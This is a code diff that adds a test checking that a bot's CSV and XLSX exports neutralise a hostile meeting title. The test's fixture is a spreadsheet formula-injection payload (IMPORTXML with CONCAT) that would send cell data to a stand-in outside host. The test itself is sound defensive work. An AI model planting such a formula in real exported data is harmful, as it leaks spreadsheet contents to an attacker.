@@ -351,3 +351,27 @@ async def test_the_generated_key_is_made_once_and_kept_in_the_database(
     async with runtime.sessions() as session:
         keys = (await session.scalars(select(InstallationSecret))).all()
     assert [(key.name, len(key.value) >= 60) for key in keys] == [("export_member_codes", True)]
+
+
+async def test_an_organisers_hostile_meeting_title_is_neutralised_too(runtime: Runtime) -> None:
+    from sqlalchemy import update
+
+    from bot.db.models import MeetingText
+
+    world = await make_world(runtime)
+    await add_answer(runtime, world, "sanne", "gewoon", at=AT)
+    async with runtime.sessions() as session:
+        await session.execute(
+            update(MeetingText)
+            .where(MeetingText.meeting_id == world.meeting_id, MeetingText.locale == "nl")
+            .values(title='=IMPORTXML(CONCAT("http://x.invalid/?",A2),"//a")')
+        )
+        await session.commit()
+
+    csv_data, _ = await run_export(runtime, world, "csv", language="nl")
+    assert read_csv(csv_data)[0]["Bijeenkomst"].startswith("'=IMPORTXML")
+    book = load_workbook(io.BytesIO((await run_export(runtime, world, "xlsx", language="nl"))[0]))
+    sheet = book.worksheets[1]
+    assert sheet.title == '2026-12-05 =IMPORTXML(CONCAT("h'  # 31 characters, only a name
+    assert sheet["E2"].data_type == "s"
+    assert sheet["E2"].value.startswith("'=IMPORTXML")
